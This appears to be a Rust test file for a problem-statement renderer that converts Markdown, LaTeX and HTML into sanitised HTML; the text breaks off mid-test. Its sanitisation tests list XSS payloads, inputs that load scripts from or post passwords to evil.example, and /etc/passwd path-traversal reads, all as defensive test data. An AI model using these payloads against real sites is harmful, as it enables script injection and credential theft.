//! Statements in Markdown, LaTeX and HTML, and what must never come out of them.

// Helpers of tests may fail as tests do.
#![allow(clippy::unwrap_used)]

mod support;

use std::{path::PathBuf, sync::Mutex};

use assay_package::{Package, Reading, StatementBody, Tex, TexError, read_with};
use support::{Fixture, html};

/// The smallest PNG there is: one pixel.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82";

fn markdown(text: &str) -> Fixture {
    Fixture::new().with("statement/problem.en.md", text).with("statement/map.png", PNG)
}

fn latex(text: &str) -> Package {
    let fixture = Fixture::new()
        .without("statement/problem.en.md")
        .with("statement/problem.en.tex", text)
        .with("statement/map.png", PNG)
        .with("statement/part.tex", "From a \\emph{part}.")
        .with("problem.yaml", "problem_format_version: legacy\nname: Sum\n");
    fixture.read()
}

/// The HTML of a LaTeX statement that gives no warning.
fn plain(text: &str) -> String {
    let package = latex(text);
    assert_eq!(package.warnings, [], "{text}");
    html(&package).to_owned()
}

fn has(text: &str, parts: &[&str]) {
    let html = plain(text);
    for part in parts {
        assert!(html.contains(part), "{part:?} is not in {html:?}");
    }
}

#[test]
fn markdown_becomes_html() {
    let package =
        markdown("# Input\n\nAn *integer* `n`.[^1]\n\n| a | b |\n|:-:|--:|\n| 1 | $x$ |\n\n[^1]: Or two.\n").read();
    let html = html(&package);
    for part in
        ["<h2>Input</h2>", "<em>integer</em>", "<th align=\"center\">a</th>", "<td align=\"right\"><math", "Or two."]
    {
        assert!(html.contains(part), "{part:?} is not in {html}");
    }
}

#[test]
fn formulas_stand_in_their_places() {
    let package = markdown("A $x$ then $$y + 1$$ and $x$ again.").read();
    let html = html(&package);
    assert_eq!(html.matches("<math").count(), 3);
    assert!(!html.contains("<span"), "{html}");
}

#[test]
fn a_formula_that_does_not_parse_stays_readable() {
    let package = markdown("One.\n\nTwo $\\nosuch{1}$ three.\n").read();
    assert!(html(&package).contains(r"<code>\nosuch{1}</code>"));
    assert_eq!((package.warnings.len(), package.warnings[0].line), (1, Some(3)));
}

#[test]
fn pictures_are_named_by_their_content() {
    let text = "![a map](map.png)\n\n<img src=\"map.png\" width=\"50%\" onerror=\"alert(1)\">\n\n![gone](gone.png) ![far](https://example.org/x.png)\n";
    let package = markdown(text).read();
    let [file] = package.statements[0].files.as_slice() else { panic!("one file") };
    assert_eq!((file.media_type, file.address.as_str()), ("image/png", format!("{}.png", file.sha256).as_str()));
    let html = html(&package);
    let source = format!("src=\"/statement-files/{}\"", file.address);
    assert_eq!((html.matches("<img").count(), html.matches(&source).count()), (2, 2), "{html}");
    assert!(html.contains("width=\"50%\"") && html.contains("alt=\"a map\"") && !html.contains("onerror"), "{html}");
    let warnings: Vec<_> = package.warnings.iter().map(|warning| warning.line).collect();
    assert_eq!(warnings, [Some(5), Some(5)]);
}

/// A PDF of one page with a line on it.
fn pdf() -> Vec<u8> {
    let content = "10 10 m 90 90 l S";
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << >> >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len()),
    ];
    let mut pdf = String::from("%PDF-1.4\n");
    let mut places = Vec::new();
    for (number, object) in (1..).zip(&objects) {
        places.push(pdf.len());
        pdf += &format!("{number} 0 obj\n{object}\nendobj\n");
    }
    let start = pdf.len();
    pdf += "xref\n0 5\n0000000000 65535 f \n";
    places.iter().for_each(|place| pdf += &format!("{place:010} 00000 n \n"));
    pdf += &format!("trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n");
    pdf.into_bytes()
}

#[test]
fn pdf_figures_are_drawn_and_others_linked_to() {
    let text = "![line](line.pdf) ![plot](plot.eps) ![broken](broken.pdf)\n";
    let fixture = markdown(text)
        .with("statement/line.pdf", pdf())
        .with("statement/plot.eps", "%!PS")
        .with("statement/broken.pdf", "%PDF");
    let package = fixture.read();
    let types: Vec<_> = package.statements[0].files.iter().map(|file| file.media_type).collect();
    assert_eq!(types, ["image/svg+xml", "application/postscript", "application/pdf"]);
    let drawn = &package.statements[0].files[0];
    assert!(std::fs::read_to_string(&drawn.path).unwrap().contains("<path"));
    let html = html(&package);
    assert!(
        html.contains(&format!("<img src=\"/statement-files/{}\"", drawn.address)) && html.contains(">plot</a>"),
        "{html}"
    );
    assert_eq!(package.warnings.len(), 2);
}

/// Draws figures for the tests: they start this program again.
#[test]
fn draws_a_figure_if_asked() {
    assay_package::draw_if_asked();
}

#[test]
fn svg_is_shown_without_what_runs_or_fetches() {
    for (svg, kept) in [
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", "<path"),
        ("<svg><script>alert(1)</script><rect/></svg>", "<rect"),
        ("<svg onload=\"alert(1)\"><rect/></svg>", "<rect"),
        ("<svg><a href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<text>x"),
        ("<svg><image href=\"https://example.org/x.png\"/><rect/></svg>", "<rect"),
    ] {
        let package = markdown("![p](p.svg)\n").with("statement/p.svg", svg).read();
        assert!(html(&package).contains("<img"), "{svg}: {:?}", package.warnings);
        let shown = std::fs::read_to_string(&package.statements[0].files[0].path).unwrap();
        assert!(shown.contains(kept) && !shown.contains("alert") && !shown.contains("example.org"), "{svg}: {shown}");
    }
    let package = markdown("![a map](p.svg)\n").with("statement/p.svg", "<svg><g>").read();
    assert!(html(&package).contains("Figure missing: a map"), "{}", html(&package));
    assert_eq!(package.warnings.len(), 1);
}

#[test]
fn pictures_have_the_size_that_pandoc_gives_them() {
    let text = "![a](map.png){width=50%}\n\n![b](map.png){#fig:b width=5cm height=\"40px\" .left}, then\n\n![c](map.png) {x}\n";
    let package = markdown(text).read();
    let html = html(&package);
    for part in ["alt=\"a\" width=\"50%\"", "alt=\"b\" width=\"189\" height=\"40\"", ">, then", " {x}"] {
        assert!(html.contains(part), "{part:?} is not in {html}");
    }
    assert!(!html.contains("{width") && !html.contains("#fig"), "{html}");
}

#[test]
fn markdown_notes_are_collected() {
    let text = "One^[An *inline* note with [a link](https://e.org).] two[^b] three[^a] again[^b] `^[code]`.\n\n[^a]: First.\n\n    More.\n[^b]: Second $x$.\n";
    let package = markdown(text).read();
    let html = html(&package);
    for part in [
        "One<sup>1</sup> two<sup>2</sup> three<sup>3</sup> again<sup>2</sup>",
        "<code>^[code]</code>",
        "<section class=\"footnotes\">",
    ] {
        assert!(html.contains(part), "{part:?} is not in {html}");
    }
    let places = ["An <em>inline</em> note", "Second <span class=\"together\"><math>", "First.", "More."]
        .map(|part| html.find(part).unwrap_or_else(|| panic!("{part} is not in {html}")));
    assert!(places.is_sorted(), "{html}");
    assert_eq!(package.warnings, []);
}

#[test]
fn punctuation_stays_with_its_formula() {
    for text in ["Sum ($a$), $b$-th ``$c$''.", "Sum ($a$), $b$-th “$c$”."] {
        let tex = plain(text);
        for part in [
            "<span class=\"together\">(<math><mi>a</mi></math>),</span> ",
            "<span class=\"together\"><math><mi>b</mi></math>-th</span>",
            "<span class=\"together\">“<math><mi>c</mi></math>”.</span>",
        ] {
            assert!(tex.contains(part), "{part:?} is not in {tex}");
        }
    }
    let package = markdown("Sum ($a$), and $b$ or\n\n$$c$$.").read();
    let html = html(&package);
    assert!(
        html.contains("<span class=\"together\">(<math><mi>a</mi></math>),</span> and <math><mi>b</mi></math> or"),
        "{html}"
    );
    assert_eq!(html.matches("together").count(), 1, "{html}");
}

#[test]
fn formulas_are_the_same_in_all_formats() {
    let formula = "{n \\choose k} + \\mbox{if } \\bm{x} \\over \\ensuremath{y} \\num{12345}";
    let tex = plain(&format!("${formula}$"));
    let markdown = markdown(&format!("${formula}$")).read();
    let page = Fixture::new()
        .without("statement/problem.en.md")
        .with("statement/problem.en.html", format!("<p>\\({formula}\\)</p>"))
        .read();
    let math = |html: &str| html[html.find("<math").unwrap()..html.find("</math>").unwrap()].to_owned();
    assert_eq!(math(&tex), math(html(&markdown)));
    assert_eq!(math(&tex), math(html(&page)));
    assert!(markdown.warnings.is_empty() && page.warnings.is_empty());
}

#[test]
fn formulas_may_define_macros_for_later_ones() {
    let package = markdown(
        "$\\newcommand{\\N}{\\mathbb{N}}\\DeclareMathOperator{\\lcm}{lcm}$ Let $x \\in \\N$ and $\\lcm(x, y)$.",
    )
    .read();
    assert_eq!(package.warnings, []);
    assert!(html(&package).contains('ℕ') && html(&package).contains("lcm"), "{}", html(&package));
}

#[test]
fn samples_are_shown_where_the_text_asks() {
    let text = "Before.\n\n{{nextsample}}\n\nBetween.\n\n{{remainingsamples}}\n";
    let package = markdown(text).with("data/sample/2.in", "a\n\n  \nb < c\n").with("data/sample/2.ans", "d\n").read();
    let html = html(&package);
    let places = ["Before.", "1 2", "Between.", "a\n\n  \nb &lt; c"]
        .map(|part| html.find(part).unwrap_or_else(|| panic!("{part} is not in {html}")));
    assert!(places.is_sorted(), "{html}");
    assert_eq!(package.statements[0].samples, ["sample/1", "sample/2"]);
    let tex = latex("Before. \\nextsample After.");
    assert!(support::html(&tex).contains("1 2") && tex.statements[0].samples == ["sample/1"]);
    let twice = markdown("{{sample.1}} {{sample.7}}").read();
    assert_eq!((twice.statements[0].samples.len(), twice.warnings.len()), (1, 1));
}

#[test]
fn constants_are_put_into_their_places() {
    let yaml =
        "problem_format_version: 2025-09\nname: Sum\nuuid: 1\nconstants:\n  k: {value: 5, tex: '5\\,000'}\n  lim: 7\n";
    let fixture = markdown("At most {{k}} and ${{k.tex}}$ and {{no}}.").with("problem.yaml", yaml);
    let package = fixture
        .with("include/default/limits.h", "int k = {{k}}, l = {{lim}};\n")
        .with("include/default/plain.h", "")
        .read();
    assert!(html(&package).contains("At most 5 and") && html(&package).contains("{{no}}"));
    let files = &package.plan.include[0].files;
    assert_eq!(std::fs::read_to_string(&files[0].file).unwrap(), "int k = 5, l = 7;\n");
    assert!(!files[0].file.starts_with(&package.root) && files[1].file.starts_with(&package.root));
    drop(package.clone());
    assert!(files[0].file.exists());
}

#[test]
fn latex_text_becomes_html() {
    has("One\ntwo.\n\nThree % not this\nfour.", &["<p>One two.</p>", "<p>Three four.</p>"]);
    has("\\section*{Input \\& more}\\subsection{B}", &["<h2>Input &amp; more</h2>", "<h3>B</h3>"]);
    has(
        "``a'' --- `b' -- c\\ldots~d \\textit{e} {\\bf f} \\texttt{--``} 10\\%",
        &["“a” — ‘b’ – c…&nbsp;d <em>e</em> <strong>f</strong> <code>--``</code> 10%"],
    );
    has("\\\"Osterg\\aa rd \\'e \\c{c} \\v s Nudg\\'emon {\\o}re Erd\\H{o}s", &["Östergård é ç š Nudgémon øre Erdős"]);
    has(
        "\\verb|a<b| \\url{https://e.org/a_b} \\href{https://e.org/?a=1\\&b=2}{there}",
        &["<code>a&lt;b</code>", "href=\"https://e.org/a_b\"", "href=\"https://e.org/?a=1&amp;b=2\"", ">there</a>"],
    );
    has("a\\footnote{Note $x$.} b", &["a<sup>1</sup> b", "<li>Note <span class=\"together\"><math"]);
    has("\\begin{verbatim}\n  a % b\n\n\\x\n\\end{verbatim}", &["<pre><code>  a % b\n\n\\x</code></pre>"]);
    has("\\begin{Input}x\\end{Input}", &["<h2>Input</h2>"]);
    has("\\input{part}", &["From a <em>part</em>."]);
    has("a\\\\b \\noindent c \\vspace{3mm} d \\hspace*{1cm}e \\vskip 2pt f", &["a<br>b c d e f"]);
    has("\\num{1234567} and \\SI{5}{\\metre}", &["<math"]);
    has("\\ifplastex yes \\else no \\fi end \\iffalse hidden \\fi", &["yes", "end"]);
    assert!(!plain("\\ifplastex yes \\else no \\fi").contains("no"));
}

#[test]
fn latex_macros_are_expanded() {
    has(
        "\\newcommand{\\maxn}{10^5}\\newcommand{\\who}[2][Ada]{#1 and #2}$\\maxn$ \\who{Bob} \\who[Eve]{Bob}",
        &["<math", "Ada and Bob", "Eve and Bob"],
    );
    has("\\def\\x#1#2{<#2#1>}\\x ab \\x{c}{d}", &["&lt;ba&gt;", "&lt;dc&gt;"]);
    has("\\def\\range#1..#2.{#1 to #2}\\range1..5.", &["1 to 5"]);
    has("\\newenvironment{hint}[1]{\\textbf{#1:} }{!}\\begin{hint}{Tip}go\\end{hint}", &["<strong>Tip:</strong> go!"]);
    has("\\newcommand{\\N}{\\mathbb{N}}\\newcommand{\\set}[1]{\\{#1\\}}$x \\in \\set{\\N}$", &["<math"]);
}

#[test]
fn latex_lists_tables_and_figures_become_theirs() {
    has(
        "\\begin{itemize}\n\\item one\n\\item two\n\n more\n\\begin{enumerate}[(a)]\\item in\\end{enumerate}\n\\end{itemize}",
        &["<ul>\n<li>one</li>", "<li class=\"labelled\">(a) in</li>"],
    );
    has("\\begin{description}\\item[A] b\\end{description}", &["<dt>A</dt><dd>b</dd>"]);
    let table = "\\begin{center}\\begin{tabular}{|l|c|r|}\\hline\na & $b$ & c\\\\ \\hline\n\\multicolumn{2}{c}{wide} & 1 \\\\\n\\end{tabular}\\end{center}";
    has(
        table,
        &[
            "<div class=\"center\"><table>",
            "<td align=\"left\">a</td><td align=\"center\"><math",
            "<td align=\"center\" colspan=\"2\">wide</td><td align=\"right\">1</td>",
        ],
    );
    let figure = "See Figure~\\ref{fig:m}.\n\\begin{figure}[ht]\\centering\\includegraphics[width=0.5\\textwidth]{map}\\caption{The \\emph{map}}\\label{fig:m}\\end{figure}";
    has(figure, &["See Figure&nbsp;1.", "width=\"50%\"", "<figcaption>Figure 1: The <em>map</em></figcaption>"]);
    has(
        "\\illustration{.3}{map.png}{By \\href{https://e.org}{me}}",
        &["<figure class=\"illustration w-30\"><img src=\"/statement-files/", "<figcaption>By <a href"],
    );
    has("\\begin{align*}a &= b \\\\ c &= d\\end{align*}\\[x\\]\\(y\\)\\begin{equation}z\\end{equation}", &["<math"]);
    has(
        "\\[ f(x) = \\begin{cases} 0 & \\text{if } x < 0 \\\\ 1 & \\text{otherwise} \\end{cases} \\]",
        &["<math display=\"block\""],
    );
}

#[test]
fn latex_titles_become_names() {
    assert_eq!(
        latex("\\problemname{Count von Walken's \\emph{Fence} $x^2$}\nText").name(),
        "Count von Walken’s Fence x^2"
    );
    assert_eq!(latex("%% plainproblemname: Plain\n\\problemname{$x$}").name(), "Plain");
    assert_eq!(latex("Text").name(), "Sum");
}

#[test]
fn unknown_latex_keeps_its_text_and_says_so() {
    let package = latex("One.\n\n\\fancy[x]{Two} \\begin{odd}three\\end{odd} \\fancy{four}");
    assert!(["Two", "three", "four"].iter().all(|word| html(&package).contains(word)));
    let warnings: Vec<_> = package.warnings.iter().map(|warning| (warning.file.as_str(), warning.line)).collect();
    assert_eq!(warnings, [("statement/problem.en.tex", Some(3)), ("statement/problem.en.tex", Some(3))]);
}

#[test]
fn latex_made_to_break_its_reader_comes_to_an_end() {
    for text in [
        "\\def\\a{\\a\\a}\\a".to_owned(),
        "\\def\\a{\\b}\\def\\b{\\a}\\a".to_owned(),
        "\\newcommand{\\a}{xxxxxxxxxx}\\newcommand{\\b}{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}".to_owned()
            + "\\newcommand{\\c}{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\newcommand{\\d}{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d",
        "{".repeat(100_000),
        "}".repeat(100_000),
        "\\begin{itemize}\\item ".repeat(5_000),
        "\\textbf{".repeat(50_000),
        "\\begin{tabular}{".repeat(5_000),
        "\\begin{tabular}{*{99999}{*{99999}{l}}}a\\end{tabular}".to_owned(),
        "\\footnote{".repeat(5_000),
        "$".repeat(9_999),
        "\\if".repeat(10_000),
        "\\input{problem.en}".to_owned(),
        "\\verb".to_owned(),
        "\\begin".to_owned(),
        "\\".to_owned(),
        "%".to_owned(),
        "\\newcommand".to_owned(),
        "\\end{a}\\end{b}&&\\\\&\\item".to_owned(),
        "\\begin{figure}\\caption{".to_owned(),
    ] {
        let package = latex(&text);
        assert!(matches!(package.statements[0].body, StatementBody::Html(_)));
    }
}

#[test]
fn links_do_not_hand_over_the_window() {
    let package =
        markdown("[a](https://example.org/) [b](javascript:alert(1)) [c](/log-out) <https://example.org>").read();
    let html = html(&package);
    assert_eq!(html.matches("noopener").count(), html.matches("<a ").count());
    assert_eq!(html.matches("href=").count(), 2);
}

#[test]
fn html_becomes_a_statement() {
    let text = "<!DOCTYPE html><html><head><title>T</title><style>p { color: red }</style></head>\n<body onload='x()'><h1>Sum</h1>\n<!-- <b>not this</b> -->\
        <p>Add $$$a \\le b$$$ and \\(c &lt; d\\), for $5 or $6.</p><h3>Input</h3><pre>\\(as it is\\)</pre>$$x + y$$ <IMG SRC='map.png'\n alt='a > b'>\n\\(\\nosuch{1}\\)</body></html>";
    for name in ["problem_statement/problem.html", "problem_statement/problem.en.html", "problem.html"] {
        let package = Fixture::new()
            .without("statement/problem.en.md")
            .with("problem.yaml", "problem_format_version: legacy\nname: Sum\n")
            .with("problem_statement/map.png", PNG)
            .with(name, text)
            .read();
        let html = html(&package);
        for part in ["<h2>Sum</h2>", "for $5 or $6.", "<h4>Input</h4>", r"<pre>\(as it is\)</pre>", "alt=\"a &gt; b\""]
        {
            assert!(html.contains(part), "{part:?} is not in {html}");
        }
        assert!(!html.contains("not this") && !html.contains("color") && !html.contains("<title>"), "{html}");
        assert_eq!((html.matches("<math").count(), html.matches("display=\"block\"").count()), (3, 1), "{html}");
        assert_eq!(package.statements[0].files.len(), 1);
        let warnings: Vec<_> = package.warnings.iter().map(|warning| warning.line).collect();
        assert_eq!(warnings, [Some(5)], "{:?}", package.warnings);
    }
}

#[test]
fn hostile_html_stays_harmless() {
    for text in HOSTILE.into_iter().chain([
        "<script>alert(1)",
        "<style><!--</style><script>alert(1)</script>-->",
        "<h1 onclick=alert(1)>x</h1>",
        "$$$\\text{<img src=x onerror=alert(1)>}$$$",
        "\\(&lt;script>alert(1)&lt;/script>\\)",
        "<p title='$$$x$$$' onclick='alert(1)'>",
        "<a \"><script>alert(1)</script>",
    ]) {
        let package = Fixture::new().without("statement/problem.en.md").with("statement/problem.en.html", text).read();
        harmless(html(&package), text);
    }
}

#[test]
fn hostile_markdown_stays_harmless() {
    for text in HOSTILE {
        harmless(html(&markdown(text).read()), text);
    }
}

const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed' onclick='alert(1)'>x</p>",
    "<a href='jav&#x61;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<div title=\"\n\n$\\text{\" onmouseover=alert(1) x=}$\n\n\">x</div>",
    "<div title='\n\n$x$\n\n'>x</div>",
    "<textarea>\n\n$x$</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "`</code><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<img src='https://evil.example/x.png'> ![x](//evil.example/x.png)",
    "<img src=\"map.png\" alt=\"\"onerror=alert(1) x=\"\">",
];

#[test]
fn hostile_latex_stays_harmless() {
    for text in [
        "<script>alert(1)</script>",
        "\\href{javascript:alert(1)}{x}",
        "\\href{https://e.org/\" onclick=\"alert(1)}{x}",
        "\\url{javascript:alert(1)}",
        "\\texttt{<img src=x onerror=alert(1)>}",
        "\\verb|<script>alert(1)</script>|",
        "\\begin{verbatim}</code></pre><script>alert(1)</script>\\end{verbatim}",
        "\\includegraphics{https://evil.example/x.png}",
        "\\includegraphics{../../../../etc/passwd}",
        "\\includegraphics[width=\"onerror=alert(1)]{map}",
        "\\input{/etc/passwd}\\input{../problem.yaml}",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{</math><script>alert(1)</script>}$",
        "\\caption{<script>alert(1)</script>}",
        "\\section{<svg onload=alert(1)>}",
        "\\problemname{<script>alert(1)</script>}",
    ] {
        let package = latex(text);
        harmless(html(&package), text);
        assert!(!html(&package).contains("root:"), "{text}");
    }
}

/// What is left as text is escaped: only real tags and attributes count.
fn harmless(html: &str, text: &str) {
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
        let name = tag.split([' ', '/']).find(|part| !part.is_empty()).unwrap_or_default();
        let banned = ["script", "style", "svg", "iframe", "form", "input", "object", "embed", "meta", "base"];
        assert!(!banned.contains(&name), "{text}\n{html}");
        let outside_values: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("\"");
        for attribute in [" on", "style=", "javascript:", "data:", "srcdoc"] {
            assert!(!outside_values.contains(attribute), "{text}\n{html}");
        }
        assert!(!tag.contains("href=\"javascript") && !tag.contains("href=\"data"), "{text}\n{html}");
        assert!(name != "img" || tag.contains("src=\"/statement-files/"), "{text}\n{html}");
    }
}

#[test]
fn hints_come_in_order_and_in_their_languages() {
    let fixture = markdown("Do it.")
        .with("hints/10.md", "Third, with $x$.")
        .with("hints/2.md", "Second, ![a map](map.png).")
        .with("hints/1.de.md", "Erstens.")
        .with("hints/1.md", "First.<script>alert(1)</script>")
        .with("hints/1.en.md", "Twice.")
        .with("hints/notes.md", "Not one.")
        .with("hints/map.png", PNG);
    let package = fixture.read();
    let shown: Vec<_> = package.hints.iter().map(|hint| (hint.number, hint.texts.len())).collect();
    assert_eq!(shown, [(1, 2), (2, 1), (10, 1)]);
    let text = |hint: usize, text: usize| match &package.hints[hint].texts[text].body {
        StatementBody::Html(html) => html.as_str(),
        StatementBody::Pdf => panic!("a PDF"),
    };
    assert!(text(0, 0).contains("Twice.") && text(0, 1).contains("Erstens."));
    assert!(text(1, 0).contains("/statement-files/") && package.hints[1].texts[0].files.len() == 1);
    assert!(text(2, 0).contains("<math"));
    let warnings: Vec<_> = package.warnings.iter().map(ToString::to_string).collect();
    assert!(warnings.len() == 2, "{warnings:?}");
    assert!(warnings.iter().any(|warning| warning.starts_with("hints/notes.md: ")), "{warnings:?}");
    assert!(warnings.iter().any(|warning| warning.starts_with("hints/1.md: ")), "{warnings:?}");
}

#[test]
fn a_solution_is_read_as_a_statement_is() {
    let package = markdown("Do it.")
        .with("solution/solution.md", "Add, as ![the map](map.png) shows.<script>alert(1)</script>")
        .with("solution/solution.sv.tex", "L\\\"agg ihop $a$ och $b$.")
        .with("solution/solution.pdf", "%PDF-1.4 the same")
        .read();
    let solutions: Vec<_> = package.solutions.iter().map(|text| text.language.as_str()).collect();
    assert_eq!(solutions, ["en", "sv"]);
    let StatementBody::Html(html) = &package.solutions[0].body else { panic!("a PDF") };
    assert!(html.contains("/statement-files/") && !html.contains("script"), "{html}");
    let StatementBody::Html(html) = &package.solutions[1].body else { panic!("a PDF") };
    assert!(html.contains("Lägg ihop") && html.contains("<math"), "{html}");
}

#[test]
fn addresses_may_hold_percent_signs() {
    has(
        "\\url{https://e.org/a%20b_c~d} and \\href{https://e.org/%7Ex?a=1&b=2#c}{there \\emph{x}}\\footnote{\\url{https://e.org/%41}} end",
        &["href=\"https://e.org/a%20b_c~d\"", "href=\"https://e.org/%7Ex?a=1&amp;b=2#c\"", "https://e.org/%41", " end"],
    );
    has("\\url|https://e.org/%20| \\nolinkurl{a%b} end", &["href=\"https://e.org/%20\"", "<code>a%b</code> end"]);
}

#[test]
fn conditions_end_where_they_do() {
    has("\\iflanguage{english}{yes}{no} end", &["yes end"]);
    has("\\iflanguage{ngerman}{ja}{yes} end", &["yes end"]);
    has(
        "\\ifstrequal{a}{a}{same}{other} \\ifblank{ }{blank}{full} \\IfFileExists{part}{is}{is not} end",
        &["same blank is end"],
    );
    has("\\newif\\ifbig \\bigtrue \\ifbig A\\else B\\fi{} \\bigfalse \\ifbig C\\else D\\fi{} end", &["A D end"]);
    has("\\iffalse a \\iflanguage{x}{y}{z} b \\ifnum1<2 c \\fi d \\fi end", &["<p>end"]);
    has("\\ifshipped hidden \\else shown \\fi end", &["<p>shown end"]);
    assert!(html(&latex("\\ifalone{x} and all the rest")).contains("and all the rest"));
}

#[test]
fn accents_without_a_letter_are_signs() {
    has("2\\^{}3 \\~{} \\^{ } \\'{} \\\"{} \\^{\\i}", &["2^3 ~ ^ ´ ¨ î"]);
}

#[test]
fn cells_may_span_rows() {
    has(
        "\\begin{tabular}{|c|c|}\\hline \\multirow{2}{*}{A} & b \\\\ & c \\\\ \\multirow[t]{2}{3cm}[1ex]{D} & e \\\\ \\cline{2-2} & f \\\\ \\end{tabular}",
        &[
            "<tr><td align=\"center\" rowspan=\"2\">A</td><td align=\"center\">b</td></tr>\n<tr><td align=\"center\">c</td></tr>",
            "<tr><td align=\"center\" rowspan=\"2\">D</td><td align=\"center\">e</td></tr>\n<tr><td align=\"center\">f</td></tr>",
        ],
    );
    has(
        "\\begin{tabular}{ll} & b \\\\ \\multirow{-2}{*}{A} & c \\\\ \\multicolumn{2}{c}{\\multirow{2}{*}{W}} \\\\ & \\\\ x & y \\end{tabular}",
        &[
            "<tr><td align=\"left\" rowspan=\"2\">A</td><td align=\"left\">b</td></tr>\n<tr><td align=\"left\">c</td></tr>",
            "<tr><td align=\"center\" colspan=\"2\" rowspan=\"2\">W</td></tr>",
            "<td align=\"left\">x</td><td align=\"left\">y</td>",
        ],
    );
    let html = plain("\\begin{tabular}{ll}\\hline a & b \\\\ & \\\\ c & d \\\\ \\hline\\end{tabular}");
    assert_eq!(html.matches("<tr>").count(), 3, "an empty row keeps its place: {html}");
}

#[test]
fn lists_are_numbered_as_they_say() {
    has(
        "\\begin{enumerate}[label=\\alph*., start=3]\\item x\\item y\\end{enumerate}",
        &["<ol type=\"a\" start=\"3\">\n<li>x</li>"],
    );
    has("\\begin{enumerate}[(a)]\\item x\\item y\\end{enumerate}", &["<li class=\"labelled\">(a) x</li>", "(b) y"]);
    has("\\begin{enumerate}[label=(\\roman*)]\\item x\\item y\\end{enumerate}", &["(i) x", "(ii) y"]);
    has(
        "\\begin{enumerate}[label={\\textbf{Q\\arabic*:}}, leftmargin=2em]\\item x\\end{enumerate}",
        &["<strong>Q1:</strong> x"],
    );
    has("\\begin{enumerate}[I.]\\item x\\end{enumerate}", &["<ol type=\"I\">"]);
    has("\\begin{enumerate}\\setcounter{enumi}{4}\\item x\\end{enumerate}", &["<ol start=\"5\">"]);
    has("\\begin{enumerate}\\item x\\item[*] y\\item z\\end{enumerate}", &["1. x", "* y", "2. z"]);
    has("\\begin{itemize}\\item[--] x\\item y\\end{itemize}", &["<li class=\"labelled\">– x</li>\n<li>y</li>"]);
    has("\\begin{enumerate}\\item a\\item\\label{two} b\\end{enumerate}See \\ref{two}.", &["See 2."]);
}

#[test]
fn references_name_what_they_refer_to() {
    has("\\section{The \\emph{rules}}\\label{s}See Section~\\ref{s}.", &["See Section&nbsp;The <em>rules</em>."]);
    has(
        "\\begin{equation}x = 1\\label{e}\\end{equation}By \\eqref{e} and \\ref{e}.",
        &["By (1) and 1.", "(1)</mtext>"],
    );
    has(
        "\\begin{figure}\\subfloat[One]{\\includegraphics{map}}\\subfloat[Two]{\\includegraphics{map}}\\caption{Both}\\label{f}\\end{figure}Figure \\ref{f}",
        &[
            "<figcaption>One</figcaption>",
            "<figcaption>Two</figcaption>",
            "<figcaption>Figure 1: Both</figcaption>",
            "Figure 1</p>",
        ],
    );
    has(
        "\\begin{wrapfigure}[9]{L}{5cm}\\includegraphics[width=\\linewidth]{map}\\caption{W}\\end{wrapfigure}\\begin{wrapfigure}{r}{.3\\textwidth}\\includegraphics{map}\\end{wrapfigure}",
        &[
            "<figure class=\"illustration left w-30\">",
            "<figcaption>Figure 1: W</figcaption>",
            "<figure class=\"illustration w-30\">",
        ],
    );
}

/// Answers in TeX's place.
#[derive(Debug)]
struct FakeTex {
    answer: Result<Vec<u8>, TexError>,
    documents: Mutex<Vec<(String, Vec<String>)>>,
}

impl FakeTex {
    fn new(answer: Result<Vec<u8>, TexError>) -> Self {
        Self { answer, documents: Mutex::default() }
    }

    fn read(&self, fixture: &Fixture) -> Package {
        read_with(&fixture.folder(), &Reading { tex: Some(self), ..Reading::default() }).unwrap()
    }
}

impl Tex for FakeTex {
    fn typeset(&self, document: &str, files: &[(String, PathBuf)]) -> Result<Vec<u8>, TexError> {
        let files = files.iter().map(|(name, _)| name.clone()).collect();
        self.documents.lock().unwrap().push((document.to_owned(), files));
        self.answer.clone()
    }
}

fn with_figures(text: &str) -> Fixture {
    Fixture::new()
        .without("statement/problem.en.md")
        .with("statement/problem.en.tex", text)
        .with("statement/problem.de.tex", text)
        .with("statement/points.csv", "1,2\n")
        .with("statement/.hidden.tex", "")
        .with("problem.yaml", "problem_format_version: legacy\nname: Sum\n")
}

#[test]
fn figures_in_tex_are_drawn_with_what_the_statement_defines() {
    let tex = FakeTex::new(Ok(pdf()));
    let text = r"\documentclass{article}
\usepackage[table]{xcolor}\usepackage{tikz, pgfplots,minted}
